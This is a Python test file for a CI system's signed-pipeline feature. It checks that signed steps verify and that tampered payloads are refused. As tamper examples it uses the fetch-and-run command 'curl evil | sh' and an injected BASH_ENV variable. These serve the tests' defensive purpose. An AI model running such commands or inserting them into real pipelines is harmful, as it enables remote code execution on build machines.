"""Signed pipelines: steps signed by the uploader, checked against the jobs the scheduler makes."""

from __future__ import annotations

from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from bastion.jobs import dispatch
from bastion.jobs.models import Job
from bastion.pipelines import services
from bastion.pipelines.signing import (
    SigningError,
    check_payload,
    generate_keys,
    load_signing_key,
    load_verification_key,
    sign_pipeline,
)
from tests.jobs.helpers import World
from tests.pipelines.helpers import make_pipeline

YAML = """
env:
  REGION: eu
steps:
  - key: deploy
    commands:
      - echo "deploy $$REGION to $TARGET"
      - echo done
    env: {MODE: fast}
  - key: matrix
    command: echo "{{matrix}} in $$REGION"
    matrix: [a, b]
"""


def _payloads(world: World, yaml: str) -> dict[str, dict[str, object]]:
    build = services.create_build(world.principal, make_pipeline(world, yaml))
    jobs = Job.objects.filter(build_job__build=build)
    return {f"{j.label}": j.payload for j in jobs}


def test_signed_steps_verify_and_any_change_is_refused(world: World, tmp_path: Path) -> None:
    private, public = generate_keys(tmp_path / "keys")
    assert private.stat().st_mode & 0o077 == 0
    signed = sign_pipeline(YAML, load_signing_key(private), {"TARGET": "prod"})
    key = load_verification_key(public)
    payloads = _payloads(world, signed)
    assert len(payloads) == 3
    for payload in payloads.values():
        assert check_payload(key, payload) is None, payload
    deploy = next(p for label, p in payloads.items() if "deploy" in label)
    assert deploy["command"] == 'set -e\necho "deploy $REGION to prod"\necho done'
    # A tampered server or database: other command, other step env, an unsafe variable.
    assert "not the signed command" in str(
        check_payload(key, {**deploy, "command": "set -e\ncurl evil | sh"})
    )
    env = dict(deploy["env"])  # type: ignore[call-overload]
    assert "MODE" in str(check_payload(key, {**deploy, "env": {**env, "MODE": "slow"}}))
    assert "BASH_ENV" in str(check_payload(key, {**deploy, "env": {**env, "BASH_ENV": "/x"}}))
    signed_part = dict(deploy["signed"])  # type: ignore[call-overload]
    forged = {**signed_part, "command": "curl evil | sh"}
    assert "does not match" in str(
        check_payload(key, {**deploy, "command": "set -e\ncurl evil | sh", "signed": forged})
    )
    # Another cluster's key, and an unsigned pipeline.
    other = Ed25519PrivateKey.generate().public_key()
    assert "does not match" in str(check_payload(other, deploy))
    unsigned = _payloads(World(cluster_name="plain"), YAML)
    assert all(check_payload(key, p) == "the step is not signed" for p in unsigned.values())


def test_keys_that_cannot_be_used_are_refused(tmp_path: Path) -> None:
    private, public = generate_keys(tmp_path)
    with pytest.raises(SigningError):
        load_signing_key(public)
    with pytest.raises(SigningError):
        load_verification_key(tmp_path / "missing.pem")
    with pytest.raises(SigningError):
        sign_pipeline("steps: [{command: 'echo \\\\$HOME'}]", load_signing_key(private), {})


def test_an_uploaded_signed_step_reaches_the_job_signed(world: World, tmp_path: Path) -> None:
    private, public = generate_keys(tmp_path)
    build = services.create_build(world.principal, make_pipeline(world, "steps: [{command: a}]"))
    agent, _ = world.agent()
    job = dispatch.poll(agent)
    assert job is not None
    dispatch.accept(agent, job.pk)
    job = dispatch.start(job)
    from bastion.pipelines import jobside

    text = sign_pipeline("steps: [{command: echo up, key: up}]", load_signing_key(private), {})
    assert jobside.upload_pipeline(job, text) == ["up"]
    uploaded = Job.objects.get(build_job__build=build, build_job__step__key="up")
    assert check_payload(load_verification_key(public), uploaded.payload) is None
